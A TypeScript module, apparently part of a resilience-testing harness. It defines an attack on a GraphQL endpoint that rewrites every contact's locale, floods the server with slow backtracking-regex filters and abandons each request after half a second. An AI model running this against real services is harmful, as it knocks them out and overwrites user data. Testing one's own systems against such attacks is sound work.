import { hostileRequests, repeat, type Attack } from './attack.ts';

const UPDATES = 300;
const PATIENCE_MS = 500;
const PAUSE_MS = 2_000;
const ADDRESS = '203.0.113.6';
const QUERY = `mutation ($updates: [contacts_updates!]!) { update_contacts_many(updates: $updates) { affected_rows } }`;

/** Half a second of comparing for a name of a hundred characters; each pattern is compared again. */
const slowly = (at: number) => ({ first_name: { _regex: `^(.+)(.+)(.+)(.+)\\1\\2\\3\\4$|^#${at}#$` } });

/** Begins to change contacts: first all of them, then for minutes none, and hangs up after half a second. */
export const abandonedMutations: Attack = (target) => {
  const requests = hostileRequests(target);
  const updates = Array.from({ length: UPDATES }, (_, at) => ({
    where: at === 0 ? {} : slowly(at),
    _set: { locale: 'en' },
  }));
  const end = repeat(
    () =>
      requests.post(
        { query: QUERY, variables: { updates } },
        { address: ADDRESS, headers: target.writer, patienceMs: PATIENCE_MS },
      ),
    PAUSE_MS,
  );

  return Promise.resolve({
    stop: () => {
      end();
      return Promise.resolve(requests.hangUp());
    },
  });
};
